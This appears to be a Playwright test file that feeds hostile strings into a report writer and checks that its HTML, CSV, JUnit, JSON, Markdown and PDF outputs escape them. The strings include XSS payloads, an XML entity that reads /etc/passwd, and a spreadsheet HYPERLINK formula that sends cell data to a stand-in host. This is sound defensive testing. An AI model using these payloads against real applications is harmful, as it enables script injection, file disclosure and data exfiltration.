import { expect, test, type Page } from '@playwright/test';
import { PDFDocument, PDFName } from 'pdf-lib';
import { formats, writeAs, type Brief } from '../../../src/debrief/index.ts';
import { sampleDebrief } from '../../support/debrief-sample.ts';
import { parseCsv } from './parse-csv.ts';
import { textOf } from './pdf-text.ts';

/** What a page under test may say in order to run in somebody's debrief, each for another kind of reader. */
const CORPUS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a closed attribute': `"' onmouseover=alert(1) x="`,
  'a picture that fails': '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
  'a closed comment, CDATA and style': '--> ]]> </style></title></textarea></script>',
  'an entity': '&lt;script&gt; &#60; &amp; <!ENTITY x SYSTEM "file:///etc/passwd"> &x;',
  'a link and a picture of Markdown': '[a](javascript:alert(1)) ![b](http://x.test/p.png) `c` **d** | e',
  'a mention': 'thanks @everyone, see #12 and www.x.test or http://x.test/q',
  'a formula': '=HYPERLINK("http://x.test?"&A1,"ok")',
  'a plus, a minus and an at': '+1\r\n-2+3\n@SUM(A1)',
  'control characters': 'a\u0000b\u0007c\u001b[31md\u2028e\u202ef\ud800g\ufffeh',
  'a template': '${alert(1)} {{ 7*7 }} <%= 1 %> $$\\sqrt{2}$$',
};

function briefWith(hostile: string): Brief {
  const outcome = (n: number) => (n % 5 === 0 ? ('failed' as const) : ('finished' as const));
  const debrief = sampleDebrief('/runs/1', {
    users: 10,
    hostile,
    faultMs: 50,
    rule: `rule${hostile}`,
    outcome,
  });
  debrief.scorecard.runId = hostile;
  debrief.scorecard.startedAt = hostile;
  debrief.scorecard.personas.unshift({ persona: hostile, citizens: 1, finished: 0 });
  const answer = { method: hostile, url: hostile, status: 504 };
  return { debrief, trace: { file: 'events.ndjson', from: 1, to: 2, citizen: 5, answer } };
}

/** Loads a page as a reader does. @returns what it tried to do. */
async function opened(page: Page, html: string): Promise<string[]> {
  const deeds: string[] = [];
  page.on('dialog', (dialog) => {
    deeds.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith('data:')) deeds.push(`request ${request.url()}`);
  });
  // Without the page's own policy, so that it is the escaping which is tested.
  await page.setContent(html.replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/, ''));
  return deeds;
}

for (const [name, hostile] of Object.entries(CORPUS)) {
  test(`${name} in the texts of a page under test is shown by every format and run by none`, async ({
    page,
  }) => {
    const brief = briefWith(hostile);
    const print = async (html: string): Promise<Uint8Array> => {
      await page.setContent(html);
      return page.pdf();
    };
    const written = new Map<string, Uint8Array>();
    for (const format of formats) written.set(format, await writeAs(format, brief, print));
    const text = (format: string): string => Buffer.from(written.get(format) ?? '').toString();

    expect(await opened(page, text('html'))).toEqual([]);
    expect(
      await page.locator('script, img, iframe, object, textarea, [onmouseover], [onload], [onerror]').count(),
    ).toBe(0);
    const visible = hostile.split(/[\p{Cc}\p{Surrogate}\u2028\u202e\ufffe]/u).at(-1) ?? '';
    await expect(page.locator('main')).toContainText(visible);

    const cells = parseCsv(text('csv')).flat();
    const formulas = cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)));
    expect(formulas).toEqual([]);

    const xml = await page.evaluate((source) => {
      const parsed = new DOMParser().parseFromString(source, 'text/xml');
      const elements = new Set(Array.from(parsed.querySelectorAll('*'), ({ tagName }) => tagName));
      return { broken: parsed.querySelector('parsererror')?.textContent ?? null, elements: [...elements] };
    }, text('junit'));
    expect(xml.broken).toBeNull();
    const known = [
      'testsuites',
      'testsuite',
      'properties',
      'property',
      'testcase',
      'failure',
      'error',
      'skipped',
      'system-out',
      'system-err',
    ];
    expect(xml.elements.filter((element) => !known.includes(element))).toEqual([]);

    expect((JSON.parse(text('json')) as { runId: string }).runId).toBe(hostile);

    const markdown = text('md').replaceAll(/\\[\\`*_[\]|~!$#]/g, '');
    expect(markdown.split('\n```')[0]).not.toMatch(/<(?!br>)|\]\(|!\[|`|@\w|:\/\/|www\.\w/);

    const pdf = await PDFDocument.load(written.get('pdf') ?? '');
    const actions = pdf.context
      .enumerateIndirectObjects()
      .filter(([, object]) => /\/(JavaScript|JS|Launch|OpenAction|AA)\b/.test(object.toString()));
    expect(actions).toEqual([]);
    expect(pdf.catalog.has(PDFName.of('OpenAction'))).toBe(false);
    expect(textOf(pdf).join('').length).toBeGreaterThan(500);
  });
}
